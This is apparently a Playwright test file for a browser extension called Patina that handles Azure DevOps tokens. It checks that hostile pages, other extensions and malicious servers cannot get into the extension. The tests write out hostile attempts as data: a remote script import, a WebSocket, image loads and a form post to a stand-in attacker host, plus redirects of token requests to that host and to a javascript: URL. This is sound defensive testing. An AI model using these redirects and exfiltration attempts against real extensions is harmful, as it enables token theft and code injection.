import type { Page } from '@playwright/test';
import type { FaultOptions } from '../../dev-server/fault';
import type { FaultName } from '../../dev-server/faults';
import { isCreate } from '../../dev-server/requests';
import { users } from '../../dev-server/tenant';
import { installIn, type Session } from '../../scripts/launch';
import { expect, test } from './fixtures';
import { askPatina, otherExtension } from './other-extension';

// What pages, other extensions and servers try against Patina, in Chromium: docs/threat-model.md.

/** Tried by a script of the page itself; each answers what it got. */
const tries = (id: string) => ({
  messages: `[typeof globalThis.chrome?.runtime?.sendMessage, typeof globalThis.browser?.runtime]`,
  manifest: `fetch('chrome-extension://${id}/manifest.json').then(({ status }) => status, () => 'nothing')`,
  icon: `new Promise((resolve) => Object.assign(new Image(), {
    src: 'chrome-extension://${id}/icons/16.png', onload: () => resolve('shown'), onerror: () => resolve('nothing') }))`,
  script: `import('chrome-extension://${id}/guard.js').then(() => 'run', () => 'nothing')`,
});

test('no page, no other extension and no script reaches into Patina', async ({ server, session, shared, signIn }) => {
  await test.step('a script that got into a page of Patina can make no markup, run no text and load nothing', async () => {
    const popup = await popupInTab(session);
    for (const [name, code] of Object.entries(ESCAPES))
      expect(await popup.evaluate(attempt(code)), name).toBe('stopped');
    const form = `new Promise((resolve) => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.visualstudio.com/', method: 'post' });
    document.body.append(form);
    form.submit();
  })`;
    expect(await popup.evaluate(form)).toBe('form-action');
    expect(server.requests.filter(({ host }) => host.startsWith('evil'))).toEqual([]);

    // The control: where there is no such policy, the same is done.
    const blank = await session.context.newPage();
    for (const name of ['markup', 'a function from text'] as const)
      expect(await blank.evaluate(attempt(ESCAPES[name])), name).toBe('done');
  });

  await test.step('another extension gets no answer from Patina', async () => {
    const another = await otherExtension('');
    const other = await installIn(shared.browser, another.folder);
    try {
      const got = (await other.worker.evaluate(askPatina(session.extensionId))) as string[];
      expect(got).toHaveLength(4);
      for (const each of got) expect(each).toMatch(/^refused: Could not establish connection/);
    } finally {
      await other.uninstall();
      await another.remove();
    }
  });

  await test.step('a page of the organization finds no Patina: no messages, no file, no frame, no window', async () => {
    const page = await signIn();
    const id = session.extensionId;
    const got = Object.entries(tries(id)).map(async ([name, code]) => [name, await page.evaluate(code)]);
    expect(Object.fromEntries(await Promise.all(got))).toEqual({
      messages: ['undefined', 'undefined'],
      manifest: 'nothing',
      icon: 'nothing',
      script: 'nothing',
    });

    const popup = `chrome-extension://${id}/src/popup/index.html`;
    await page.evaluate(`new Promise((resolve) => document.body.append(Object.assign(document.createElement('iframe'),
    { src: '${popup}', onload: resolve })))`);
    expect(page.frames().map((frame) => frame.url())).not.toContain(popup);
    const opened = session.context.waitForEvent('page');
    await page.evaluate(`void open('${popup}#revoke-all')`);
    expect((await opened).url()).not.toContain(id);
  });
});

/** The popup in a tab: it has the same policy and the same screens, and stays where it is. */
async function popupInTab({ context, extensionId }: Session): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`chrome-extension://${extensionId}/src/popup/index.html`);
  return page;
}

/** Tried by a script that has got into a page of the extension. The host is there, and would be asked. */
const ESCAPES = {
  markup: `document.body.innerHTML = '<b>bold</b>'`,
  'a written document': `document.write('<b>bold</b>')`,
  'a function from text': `new Function('return 1')()`,
  'eval of text': `(0, eval)('1')`,
  'an imported script': `await import('https://evil.visualstudio.com/x.js')`,
  'a socket': `await new Promise((resolve, reject) => Object.assign(new WebSocket('wss://evil.visualstudio.com'), { onopen: resolve, onerror: reject }))`,
  'a picture': `await new Promise((resolve, reject) => Object.assign(new Image(), { src: 'https://evil.visualstudio.com/x.png', onload: resolve, onerror: reject }))`,
  'a worker of its own': `new Worker('data:text/javascript,1')`,
} as const;

/** What a debugger evaluates may run text, up to its first turn. */
const attempt = (code: string) =>
  `(async () => { await new Promise((go) => setTimeout(go)); try { ${code}; return 'done'; } catch (error) { return 'stopped'; } })()`;

/** It is there, and would be asked. */
const EVIL = 'https://evil.visualstudio.com/_apis/connectionData';
const SIGNED_OUT = /Sign in to fabrikam/;
const MISFIT = /does not understand this answer/;

/** Each way to lead an answer astray, with what is said of it. */
const ASTRAY: [FaultName, FaultOptions, RegExp][] = [
  ['ledAway', { to: EVIL }, SIGNED_OUT],
  ['hugeBody', {}, MISFIT],
  ['ledAway', { status: 307, to: EVIL }, SIGNED_OUT],
  ['pressed', {}, MISFIT],
  ['ledAway', { to: 'http://dev.azure.com/fabrikam/_apis/connectionData' }, SIGNED_OUT],
  ['deepJson', {}, MISFIT],
  ['ledAway', { status: 308, to: 'https://dev.azure.com/fabrikam/_apis/connectionData' }, SIGNED_OUT],
  ['ledAway', { to: 'javascript:alert(1)' }, /cannot be reached/],
];

const REFRESH = `chrome.runtime.sendMessage({ name: 'tokens.refresh', input: { hostId: 'services:fabrikam' } })`;

test('what a hostile answer and a curious reader get', async ({ server, session, signIn }) => {
  await signIn();
  const popup = await popupInTab(session);

  await test.step('a secret that is hidden again is nowhere in the page, nor in what is read aloud; Done forgets it', async () => {
    await popup.getByRole('button', { name: 'Push code' }).click();
    await popup.getByRole('button', { name: 'Show token' }).click();
    const secret = server.ledger.ofUser(users.normal.id).at(-1)?.secret ?? 'none';
    const devTools = await popup.context().newCDPSession(popup);
    const everything = async () => {
      const spoken = await devTools.send('Accessibility.getFullAXTree');
      const drawn = await popup.evaluate(
        `[document.title, document.documentElement.outerHTML, ...[...document.querySelectorAll('input, textarea')].map(({ value }) => value)].join()`,
      );
      return `${drawn} ${JSON.stringify(spoken)}`;
    };
    await expect.poll(everything, 'the control: a secret that is shown is found').toContain(secret);
    await popup.getByRole('button', { name: 'Hide token' }).click();
    await expect.poll(everything).not.toContain(secret);
    await popup.getByRole('button', { name: 'Done' }).click();
    await expect(popup.getByRole('listitem').first()).toBeVisible();
    expect(await everything()).not.toContain(secret);
  });

  await test.step('whoever leads away, floods or nests an answer is told in a sentence, and nobody is followed', async () => {
    await expect(popup.getByRole('listitem').first()).toBeVisible();
    await popup.evaluate(REFRESH); // the first waits for the reading that the popup has begun
    for (const [fault, options, sentence] of ASTRAY) {
      server.requests.length = 0;
      server.faults.clear();
      server.faults.set(fault, options);
      await popup.evaluate(REFRESH);
      await expect(popup.getByText(sentence).first(), `${fault} ${JSON.stringify(options)}`).toBeVisible();
      // A read in trouble is tried once more, and what is asked is the list's first question alone.
      const asked = new Set(server.requests.map(({ host, path }) => `${host}${path.toLowerCase()}`));
      expect([...asked], JSON.stringify(options)).toEqual(['dev.azure.com/fabrikam/_apis/connectiondata']);
      expect(server.requests.length).toBeLessThanOrEqual(2);
    }

    // A create that is led away with its body is not sent on: each way asks once, as the organization's own, and nothing is made.
    server.faults.clear();
    await popup.evaluate(REFRESH);
    server.requests.length = 0;
    server.faults.set('ledAway', { method: 'POST', status: 307, to: EVIL });
    const before = server.ledger.ofUser(users.normal.id).length;
    await popup.getByRole('button', { name: 'Push code', exact: true }).click();
    await expect(popup.getByText(SIGNED_OUT).or(popup.getByRole('alert')).first()).toBeVisible();
    const creates = server.requests.filter(isCreate);
    expect([...new Set(creates.map(({ host }) => host))]).toEqual(['dev.azure.com']);
    expect(server.ledger.ofUser(users.normal.id)).toHaveLength(before);
  });
});
